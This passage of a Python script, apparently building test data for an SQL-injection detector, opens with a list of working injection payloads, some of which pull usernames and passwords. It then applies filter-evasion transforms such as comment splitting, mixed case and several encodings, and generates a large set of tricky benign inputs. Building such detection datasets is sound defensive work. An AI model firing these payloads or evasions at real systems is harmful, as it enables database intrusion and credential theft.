    "1;exec sp_makewebtask '\\\\x\\y.html','select 1'",
    "';create table t(a int);--",
    '1 and db_name()>0',
    '1 and 1=convert(int,db_name())',
    '1 and user>0',
    "' and 1=@@servername--",
    '1;select version()',
    '1 and 1=cast(version() as int)',
    "'||(select pg_sleep(5))||'",
    '1::int=1 or 1=1',
    "' or 1=utl_inaddr.get_host_address((select user from dual))--",
    "' and rownum=1--",
    "' union select null,null from dual--",
    "' union select 1,sqlite_version()--",
    '1 and (select 1 from(select count(*),concat((select (select concat(0x7e,0x27,cast(database() as char),0x27,0x7e)) from information_schema.tables limit 0,1),floor(rand(0)*2))x from information_schema.tables group by x)a)',
    '1 union select unhex(hex(version())),2',
    '1 /*!12345UnIoN*//*!12345sElEcT*/ 1,2',
    '1 and 1=1 limit 1',
    "1'/*!AND*/'1'='1",
    '1 AnD 1=1',
    '1 %26%26 1=1',
    "1 or 'a'='a'",
    '1 or 1=1 -- comment',
    '" or 1 --',
    '1) union select 1,2--',
    '1 AND 1=1 /* comment */ AND 2=2',
    '99999 or 1 in (1)',
    "1' and substring(version(),1,1)=5 and '1'='1",
    '1 and exists(select * from users)',
    "1' or exists(select 1)#",
    '1 or 1=1;',
    "' or 1=1;--",
    '1 and 1 in (select 1)',
    "1' group by 1,2,3--+",
    "x' AND 1=(SELECT COUNT(*) FROM tabname); --",
    '1 and ascii(substring((select concat(username,0x3a,password) from users limit 0,1),1,1))>96',
    '1 or not 1=2',
    "-1' or '1'='1' limit 1 offset 0 -- ",
    "') union select * from users where ('1'='1",
    '1 and 1=1 union select 1,2',
    "1' and 1=1 order by 1#",
    '1 and 0x41=0x41',
    "1 and 'a'=0x61",
]
HANDWRITTEN_BENIGN = [
    "I'm looking for O'Reilly books or Manning ones",
    'Where\'s the "select" button?',
    "Tom's & Jerry's",
    "it's 100% cotton; machine-wash",
    'She said "hello"; I said "bye"',
    'Select 2 or more items',
    '1 or more',
    '2 and up',
    'union select committee minutes 2023',
    'delete my data please',
    "update: we're open 9-5; closed Sunday",
    'The Union Select Board meets Thursday',
    'Price: $5 -- limited offer!',
    '#1 best seller -- order now',
    'Drop-off at 5pm; pick-up at 6',
    "'hello' and 'world'",
    '"To be, or not to be"',
    'x=1; y=2; z=x+y',
    "C:\\Users\\O'Brien\\Documents",
    "/home/o'brien/file.txt",
    "O'Brien; D'Angelo; O'Neil",
    "Ben & Jerry's or Häagen-Dazs",
    'user@example.com; admin@example.com',
    '1 - 2 - 3',
    '"quoted" -- said he',
    'Waitfor it...',
    'sleep tight',
    'exec. chef wanted',
    'Johnny\'s "Famous" BBQ',
    'SELECT-A-SEAT',
    'union-select.com',
    'order=desc&sort=name',
    "'; ",
    "');",
    "a' b",
    "Who's the union's president?",
    'char(10)',
    'version 1.0 or later',
    'between 1 and 10 items',
    'null or empty',
    'is null',
    'not null',
    'all or nothing',
    '1 = 1 is true',
    "Don't drop the table, just truncate it",
    "O'Hare or Midway airport",
    "L'amour or l'amitié",
    "McDonald's or Wendy's",
    "'80s or '90s music",
    "rock'n'roll' or 'jazz",
    "it's' or 'isn't",
    'Group by: Category; Order by: Price',
]

KEYWORDS = ["union", "select", "from", "where", "and", "or", "order", "by", "group", "having",
            "sleep", "benchmark", "null", "limit", "insert", "into", "values", "drop", "table",
            "delete", "update", "set", "exec", "waitfor", "delay", "like", "concat", "char",
            "information_schema", "version", "database", "user", "case", "when", "then", "else",
            "end", "if", "pg_sleep", "extractvalue", "updatexml", "load_file", "outfile", "all",
            "distinct", "not", "between", "in", "is", "xor", "rlike", "cast", "convert"]
KW_RE = re.compile(r"\b(" + "|".join(KEYWORDS) + r")\b", re.I)


def mixcase(s):
    return KW_RE.sub(lambda m: "".join(c.upper() if R.random() < 0.5 else c.lower() for c in m.group(0)), s)


def outside_strings(s, fn):
    """Apply fn to the parts of s outside '...' literals (string bodies keep their bytes)."""
    parts = re.split(r"('(?:[^'\\]|\\.)*')", s)
    return "".join(p if i % 2 else fn(p) for i, p in enumerate(parts))


def split_tail(s):
    """(payload, trailing comment): evasions that replace spaces leave the
    comment alone, MySQL's "-- " needs its space."""
    m = re.search(r"(;?(--[ -x]*|#[a-z]*|/\*)|%00)$", s)
    return (s[:m.start()], s[m.start():]) if m else (s, "")


def comment_space(s):
    body, tail = split_tail(s)
    return outside_strings(body, lambda p: p.replace(" ", "/**/")) + tail


def exec_comment(s):
    if "/*!" in s:
        return s
    return outside_strings(s, lambda p: re.sub(r"\b(UNION|SELECT|AND|OR|SLEEP|FROM)\b",
                                                lambda m: "/*!50000%s*/" % m.group(1), p, flags=re.I))


def split_comment(s):  # UN/**/ION, for applications that strip comments
    return outside_strings(s, lambda p: re.sub(r"\b(UNION|SELECT)\b",
                                                lambda m: m.group(1)[:2] + "/**/" + m.group(1)[2:], p, flags=re.I))


def ws_alt(s):
    alt = R.choice(["\t", "%0a", "%09", "%0d%0a", "%0b", "%0c", "%a0", "\t\t"])
    body, tail = split_tail(s)
    return outside_strings(body, lambda p: p.replace(" ", alt)) + tail


def urlenc(s, full=False):
    out = []
    for ch in s:
        if full or ch in " '\"#=()<>;,|&+":
            out.append("%%%02X" % ord(ch) if ord(ch) < 128 else ch)
        else:
            out.append(ch)
    return "".join(out)


def double_enc(s):
    return urlenc(s).replace("%", "%25")


def unicode_enc(s):
    return "".join("%%u%04X" % ord(c) if c in "' =" else c for c in s)


def hexify(s):
    def lit(m):
        body = m.group(1)
        if not body or "\\" in body or len(body) > 20:
            return m.group(0)
        if R.random() < 0.5:
            return "0x" + body.encode().hex()
        return "CHAR(%s)" % ",".join(str(b) for b in body.encode())
    # only complete payloads (ending in a comment), only literals after the
    # break, and never where SQL wants a quoted string (file names, delays)
    if not re.search(r"(--[ -x]*|#[a-z]*|/\*)$", s):
        return s
    head, sep, rest = s.partition(" ")
    return head + sep + re.sub(r"(?<!OUTFILE )(?<!DUMPFILE )(?<!DELAY )(?<!TIME )(?<!INFILE )(?<!PROGRAM )"
                               r"(?<!xp_dirtree )(?<!xp_cmdshell )(?<!xp_fileexist )'([A-Za-z0-9_:./ -]*)'", lit, rest)


def backticks(s):
    return re.sub(r"\b(users|username|password|information_schema|tables|sysobjects|admins|name)\b",
                  lambda m: "`%s`" % m.group(1), s)


def sci(s):
    return re.sub(r"^(-?\d+) (UNION|OR|AND)", lambda m: "%se0%s" % (m.group(1), m.group(2)), s)


def concat_trick(s):
    return s.replace("'a'='a'", "'a'=CONCAT('','a')").replace("'x'='x", "'x'='' 'x").replace("'admin'", "CONCAT('ad','min')")


def nul_trunc(s):
    return re.sub(r"(--[ -x]*|#.*|/\*)$", "%00", s)


OBFS = [("case", mixcase), ("comment-space", comment_space), ("exec-comment", exec_comment),
        ("split-comment", split_comment), ("ws-alt", ws_alt), ("urlenc", urlenc),
        ("urlenc-full", lambda s: urlenc(s, True)), ("double-urlenc", double_enc),
        ("unicode-enc", unicode_enc), ("hex-char", hexify), ("backticks", backticks),
        ("sci-notation", sci), ("concat", concat_trick), ("nul", nul_trunc)]


def attacks():
    fam = base_attacks()
    seen, out, counts = set(), [], {}
    for f in sorted(fam):
        for p in fam[f]:
            if p not in seen:
                seen.add(p)
                out.append(p)
                counts[f] = counts.get(f, 0) + 1
    base = list(out)
    for name, fn in OBFS:
        n = 0
        for p in R.sample(base, len(base)):
            q = fn(p)
            if q != p and q not in seen and "\n" not in q:
                seen.add(q)
                out.append(q)
                n += 1
                if n >= 70:
                    break
        counts["evasion:" + name] = n
    # a few stacked evasions: case + comments + encoding
    n = 0
    for p in R.sample(base, 80):
        q = urlenc(comment_space(mixcase(p)))
        if q not in seen:
            seen.add(q)
            out.append(q)
            n += 1
    counts["evasion:combined"] = n
    return out, counts


# ----------------------------------------------------------------- benign

def words():
    path = "/usr/share/dict/words"
    if not os.path.exists(path):
        sys.exit("gen.py needs /usr/share/dict/words: apt-get install wamerican")
    ws = []
    with open(path, encoding="utf-8", errors="replace") as f:
        for w in f:
            w = w.strip()
            if w and len(w) > 1 and w.isalpha():
                ws.append(w)
    return ws


SQL_ENGLISH = [
    "select the best union plan", "drop shipping", "order by price", "drop shipping suppliers",
    "select a union representative", "how to delete my account", "update my address",
    "insert coin", "create table runner", "drop table cloth", "where is union station",
    "join the union", "table for two", "union square hotels", "select committee report",
    "order by date", "group by category", "sleep 8 hours", "sleep apnea", "exec summary template",
    "union jack flag", "drop down menu", "delete key not working", "update firmware",
    "insert image in word", "grant application form", "revoke access", "truncate text css",
    "shutdown windows 10", "select all", "1 or 2 bedrooms", "between 5 and 10 dollars",
    "like new condition", "in stock only", "is it true or false", "null and void",
    "true or false quiz", "where to buy", "having fun", "limit 10", "rock and roll", "salt or pepper",
    "cats and dogs", "black or white", "yes or no", "either or", "and/or", "this or that",
    "union select", "select from list", "Union Pacific railroad", "European Union members",
    "credit union near me", "select comfort mattress", "order by phone", "case study", "case when",
    "if then else", "benchmark results 2023", "sleep mode", "waitfor", "char broil grill",
    "concat strings python", "version 2.0", "database administrator jobs", "user manual pdf",
    "information schema", "load file", "outfile", "group by", "order of operations",
    "drop the mic", "select your seat", "delete all emails", "update profile picture",
    "the union and the league", "drop shipping vs wholesale", "top 10 union songs",
    "where's waldo", "who's on first", "rock 'n' roll", "it's a dog's life",
]
NAMES_APOS = ["O'Brien", "D'Angelo", "O'Neil-Smith", "Sinéad O'Connor", "L'Oréal", "Dell'Acqua",
              "N'Golo Kanté", "D'Andre Swift", "O'Reilly Media", "Jean-Luc O'Reilly", "Mary O'Hara",
              "Ta'Quan", "De'Aaron Fox", "Shaquille O'Neal", "Georgia O'Keeffe", "Conan O'Brien",
              "Dolores O'Riordan", "Ke'Bryan Hayes", "M'Baku", "Bill O'Malley", "Ja'Marr Chase",
              "Rue de l'Église", "Côte d'Ivoire", "Val d'Isère", "Cap d'Antibes", "D'Arcy", "O'Hare airport"]
FIRST = ["James", "Mary", "John", "Patricia", "Robert", "Jennifer", "Michael", "Linda", "Wei", "Aisha",
         "José", "Fatima", "Olga", "Hiroshi", "Priya", "Lars", "Chloé", "Mohammed", "Sven", "Ana"]
LAST = ["Smith", "Johnson", "O'Brien", "Garcia", "Müller", "D'Souza", "Nguyen", "Kowalski", "O'Connor",
        "Rossi", "Schmidt", "Ivanova", "Tanaka", "Patel", "Dubois", "O'Neill", "McDonald", "Jones"]
STREETS = ["Main St", "Baker Street", "Pennsylvania Ave NW", "Elm Road", "Rue de Rivoli", "Hauptstraße",
           "King's Road", "St. John's Wood Rd", "Old Kent Rd", "Queen's Blvd", "Avenida Paulista"]
DOMAINS = ["example.com", "example.org", "mail.example.net", "corp.example", "test.example.co.uk"]
UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "curl/7.{v}.0", "python-requests/2.{v}.0", "Go-http-client/1.1", "okhttp/4.{v}.1",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (Linux; Android 13; SM-S901B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0 Mobile Safari/537.36",
]
PROSE = [
    "He said, '{w}'; then he left.", "Note: don't {w} the {w2}; it's in use.",
    "She's the {w}'s best friend; isn't she?", "'{w}' and '{w2}' are synonyms.",
    "\"{w}\" or \"{w2}\"?", "Use `{w}` instead of `{w2}`; see docs.", "**{w}**: the {w2}'s value",
    "I'd say {w} -- not {w2}.", "{w} -- {w2} -- {w}", "It's {w}; it's {w2}; it's done.",
    "# {w} {w2}", "- [ ] {w} the {w2}", "> {w}'s {w2}", "Q: what's {w}? A: {w2}.",
    "the '{w}' key (press it twice)", "({w}) or ({w2})", "{w}/{w2}; {w}={w2}",
    "Why can't I {w} my {w2}?", "1. {w}; 2. {w2}; 3. done", "I'm {w} and you're {w2}",
    "{w} = {w2} + 1;", "if ({w} == '{w2}') {{ return; }}", "print('{w}')", "console.log(\"{w}\" + {w2});",
    "for (i = 0; i < n; i++) {{ {w}[i] = 0; }}", "x >= 1 and y <= 2", "a && b || c",
    "SELECT {w} FROM {w2} WHERE id = 1", "let {w} = '{w2}';", "def {w}(self): return '{w2}'",
    "git commit -m '{w} {w2}'", "#{w} #{w2} #tbt", "@{w} thanks!", "{w}@{w2}", "50% off {w}",
    "{w} & {w2}", "{w} + {w2} = love", "{w} - {w2}", "{w}'s {w2}'s {w}", "'{w}", "{w}'", "\"{w}\"",
]


# Hard negatives: SQL words, operators, quotes and comment markers in
# values that are not injections (search syntax, formulas, code, quoting).
HARD_BENIGN = [
    "true or false", "yes/no", "N/A", "null", "NULL", "none", "-", "--", "#1", "#hashtag", "C#", "F#",
    "C++", ".NET", "node.js", "A+B", "a=1&b=2", "key=value; other=thing", "Set-Cookie: a=b; Path=/",
    "1=1", "1+1=2", "x=1", "a=b", "2>1", "5 > 3", "x > 0 and y > 0", "2*3=6", "(1+2)*3", "x^2 + y^2 = z^2",
    "1/2", "3 < 5", "10 >= 5", "1 = 1", "1 and 1", "2 or 3", "SKU-1234-AB", "ISBN 978-3-16-148410-0",
    "It's over -- she's gone", "Don't -- please", "@user don't do it #fail", "Jack o' lantern or pumpkin",
    "Ma'am or sir", "y'all or nothing", "rock 'n' roll or jazz", "'union' select", "O'Reilly OR Packt",
    '"new york" or "boston"', "'Tom' and 'Jerry'", '"select" statement', 'title:"foo" AND author:bar',
    "foo AND bar OR baz", "price:[10 TO 20]", "NOT foo", "(a OR b) AND c", "a* OR b?",
    'site:example.com "union select"', "-drop +ship", 'intitle:"index of"',
    "SELECT * FROM employees WHERE salary > 50000", "SELECT COUNT(*) FROM t;", "DROP TABLE IF EXISTS foo;",
    'a = "b"; c = "d"', "id,name,email", '1,"Smith, John",john@example.com', "=SUM(A1:A10)",
    '=IF(B2>0,"yes","no")', "x = 'a' if y else 'b'", "WHERE clause tutorial", "how to use UNION ALL",
    "What's the difference between UNION and UNION ALL?", "SELECT vs SELECT DISTINCT", "order by desc",
    "sort=price&order=desc", "ORDER BY price DESC", "group by month", "limit 20 offset 40", "1;2;3",
    "10; 20", "a;b;c", "1, 2, 3", "(1, 2)", "[1, 2, 3]", '{"a": [1, 2]}', "f(x) = x + 1", "sleep(8 hours)",
    "benchmark(2023)", "version()", "user()", "database", "information", "schema.org", "1' 2\"",
    "5'11\"", "6' 2\" tall", '12" pizza', '3/4" pipe', "it's 5 o'clock", "'quoted'", '"quoted"',
    "''", '""', "'", '"', "''''", "`backticks`", "--help", "-rf", "/* comment */", "// comment",
    "<!-- comment -->", "# heading", "## Title", "x -- y", "a # b", "1 -- 2", "1 # 2", "%",
    "100%", "50% off", "%20", "a%20b", "%E2%9C%93", "caf%C3%A9", "O%27Brien", "Tom%27s", "1%2B1",
    "hello%0Aworld", "it%27s%20fine", "%22hi%22", "a%3Db", "q=union%20station",
]


def rand_json(ws):
    def val(d):
        r = R.random()
        if d > 2 or r < 0.3:
            return R.choice(['"%s"' % R.choice(ws), str(R.randint(-1000, 100000)), "true", "false", "null",
                             '"%s"' % R.choice(NAMES_APOS), "%.2f" % R.uniform(0, 999),
                             '"%s %s"' % (R.choice(ws), R.choice(["or", "and", "select", "union", "drop"]))])
        if r < 0.6:
            return "[" + ", ".join(val(d + 1) for _ in range(R.randint(0, 4))) + "]"
        return obj(d + 1)

    def obj(d):
        return "{" + ", ".join('"%s": %s' % (R.choice(ws).lower(), val(d)) for _ in range(R.randint(1, 4))) + "}"
    s = obj(0)
    return s if R.random() < 0.5 else s.replace(", ", ",").replace(": ", ":")


def password():
    chars = "abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789!@$%^&*()_+=?.,~"
    p = "".join(R.choice(chars) for _ in range(R.randint(8, 20)))
    if R.random() < 0.2:  # one quote, not next to a comment marker (see README)
        i = R.randint(1, len(p) - 1)
        p = p[:i] + R.choice("'\"") + p[i:]
    return p


def benign():
    ws = words()
    low = [w for w in ws if w.islower()]
    out = []
    W = lambda: R.choice(low)
    for _ in range(3500):  # search phrases
        n = R.choice([1, 1, 2, 2, 3, 3, 4, 5, 6])
        out.append(" ".join(W() for _ in range(n)) if R.random() < 0.8 else " ".join(R.choice(ws) for _ in range(n)))
    for _ in range(600):  # search phrases around SQL words used as English
        s = R.choice(SQL_ENGLISH)
        r = R.random()
        out.append(s if r < 0.3 else (s + " " + W() if r < 0.65 else W() + " " + s))
    out += SQL_ENGLISH
    for n in NAMES_APOS:
        out += [n, n.upper(), n.lower(), n + " " + W(), "%s's %s" % (n, W())]
    for _ in range(700):  # people
        out.append(R.choice(["%s %s", "%s %s", "%s, %s", "%s %s Jr."]) % ((R.choice(FIRST), R.choice(LAST))
                   if R.random() < 0.7 else (R.choice(LAST), R.choice(FIRST))))
    for _ in range(600):  # contractions and possessives
        out.append(R.choice(["%s's %s", "don't %s %s", "it's %s %s", "I'm %s %s", "can't %s the %s",
                             "%s' %s", "you're %s %s", "rock'n'%s %s", "%s's and %s's"]) % (W(), W()))
    for _ in range(600):  # addresses
        out.append(R.choice(["%d %s", "%d %s, Apt %d", "%d %s, Suite %d, Springfield, IL 62704",
                             "%s %d", "Flat %d, %d %s"]).replace("%s", R.choice(STREETS), 1)
                   .replace("%d", str(R.randint(1, 9999)), 1).replace("%d", str(R.randint(1, 99)), 1)
                   .replace("%s", R.choice(STREETS), 1) if True else "")
    for _ in range(800):  # emails
        u = R.choice([W(), W() + "." + W(), W() + "+" + W(), W() + str(R.randint(1, 99)), "o'" + W()])
        out.append("%s@%s" % (u, R.choice(DOMAINS)))
    for _ in range(700):  # URLs and paths
        seg = "/".join(W() for _ in range(R.randint(1, 4)))
        out.append(R.choice([
            "https://%s/%s" % (R.choice(DOMAINS), seg),
            "https://%s/%s?q=%s&page=%d" % (R.choice(DOMAINS), seg, W(), R.randint(1, 50)),
            "http://%s/%s?utm_source=%s&utm_medium=email" % (R.choice(DOMAINS), seg, W()),
            "/%s" % seg, "/api/v%d/%s/%d" % (R.randint(1, 3), W(), R.randint(1, 99999)),
            "../%s/%s.png" % (W(), W()), "C:\\Program Files\\%s\\%s.exe" % (W(), W()),
            "~/%s/%s.txt" % (W(), W()), "https://%s/%s%%20%s" % (R.choice(DOMAINS), W(), W()),
            "s3://%s-%s/%s.csv" % (W(), W(), seg), "file:///tmp/%s" % W()]))
    for _ in range(900):
        out.append(rand_json(low))
    for _ in range(500):  # base64 / tokens
        raw = bytes(R.getrandbits(8) for _ in range(R.randint(4, 60)))
        b = base64.b64encode(raw).decode()
        out.append(R.choice([b, base64.urlsafe_b64encode(raw).decode().rstrip("="), raw.hex(),
                             "eyJhbGciOiJIUzI1NiJ9." + base64.urlsafe_b64encode(raw).decode().rstrip("=")]))
    for _ in range(400):
        out.append(str(uuid.UUID(int=R.getrandbits(128))))
    for _ in range(1200):  # numbers, dates, prices, versions, phone numbers
        out.append(R.choice([
            str(R.randint(0, 10 ** R.randint(1, 12))), "-%d" % R.randint(1, 999), "%.2f" % R.uniform(0, 9999),
            "$%.2f" % R.uniform(0, 999), "€%d,%02d" % (R.randint(0, 999), R.randint(0, 99)),
            "%d-%02d-%02d" % (R.randint(1990, 2030), R.randint(1, 12), R.randint(1, 28)),
            "%02d/%02d/%d" % (R.randint(1, 12), R.randint(1, 28), R.randint(1990, 2030)),
            "%d-%02d-%02dT%02d:%02d:00Z" % (R.randint(2000, 2030), R.randint(1, 12), R.randint(1, 28),
                                             R.randint(0, 23), R.randint(0, 59)),
            "%d.%d.%d" % (R.randint(0, 9), R.randint(0, 30), R.randint(0, 99)),
            "+1 (%03d) %03d-%04d" % (R.randint(200, 999), R.randint(100, 999), R.randint(0, 9999)),
            "%d%%" % R.randint(0, 100), "%d-%d" % (R.randint(1, 50), R.randint(51, 100)),
            "%02d:%02d" % (R.randint(0, 23), R.randint(0, 59)), "1e%d" % R.randint(1, 20),
            "%d,%d,%d" % (R.randint(1, 99), R.randint(1, 99), R.randint(1, 99)),
            "%d'%d\"" % (R.randint(4, 6), R.randint(0, 11)), "0x%x" % R.getrandbits(32),
            "%d.%d.%d.%d" % tuple(R.randint(0, 255) for _ in range(4)), "%d;%d" % (R.randint(1, 9), R.randint(1, 9))]))
    for _ in range(400):
        out.append(R.choice(UAS).format(v=R.randint(60, 125)))
    for _ in range(1500):
        out.append(R.choice(PROSE).format(w=W(), w2=W()))
    for _ in range(400):
        out.append(password())
    out += HARD_BENIGN + HANDWRITTEN_BENIGN
    for _ in range(800):  # search syntax, quoting and formulas with real words
        a, b, c = W(), W(), W()
        out.append(R.choice([
            '"%s %s" or "%s"' % (a, b, c), "'%s' and '%s'" % (a, b), "%s AND %s OR %s" % (a, b, c),
            '%s:"%s" AND %s' % (a, b, c), "(%s OR %s) AND NOT %s" % (a, b, c), "-%s +%s" % (a, b),
            "%s >= %d and %s < %d" % (a, R.randint(1, 99), b, R.randint(100, 999)),
            "=SUM(%s1:%s%d)" % (a[0].upper(), a[0].upper(), R.randint(2, 99)), "%s = %d" % (a, R.randint(0, 99)),
            "%s' %s" % (a, b), "%s's %s or %s" % (a, b, c), "%s -- %s" % (a, b), "%s; %s; %s" % (a, b, c),
            "%s, %s and %s" % (a, b, c), "%s (%s) %s" % (a, b, c), "%s=%s&%s=%d" % (a, b, c, R.randint(1, 9)),
            "select %s %s" % (a, b), "%s union %s" % (a, b), "drop %s %s" % (a, b), "%s order by %s" % (a, b),
            "%s or %s" % (a, b), "%s and %s" % (a, b), "update %s %s" % (a, b), "%s from %s" % (a, b),
            "delete %s" % a, "%s sleep %s" % (a, b), "%s #%s" % (a, b), "'%s' or '%s'" % (a, b),
            '"%s" and "%s"' % (a, b), "%s' and %s" % (a, b)]))
    seen, res = set(), []
    for s in out:
        s = s.replace("\n", " ").strip()
        if s and s not in seen:
            seen.add(s)
            res.append(s)
    return res


def main():
    atk, counts = attacks()
    ben = benign()
    with open(os.path.join(OUT, "attack.txt"), "w", encoding="utf-8") as f:
        f.write("\n".join(atk) + "\n")
    with open(os.path.join(OUT, "benign.txt"), "w", encoding="utf-8") as f:
        f.write("\n".join(ben) + "\n")
    for k in sorted(counts):
        print("%-24s %5d" % (k, counts[k]))
    print("attack.txt %d lines, benign.txt %d lines" % (len(atk), len(ben)))


if __name__ == "__main__":
    main()
